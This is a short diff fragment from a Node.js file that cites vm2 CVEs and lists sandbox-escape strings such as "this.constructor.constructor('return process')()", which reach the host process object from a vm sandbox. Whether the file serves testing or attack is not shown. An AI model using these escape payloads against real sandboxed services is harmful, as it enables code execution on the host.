@@ -7,7 +7,6 @@
 // source: vm2 CVE-2023-37466, CVE-2026-22709, CVE-2026-44008
 
 const vm = require("vm");
-const parameters = JSON.parse(process.argv[1]);
 const ways = [
   "this.constructor.constructor('return process')()",
   "outer.constructor.constructor('return process')()",
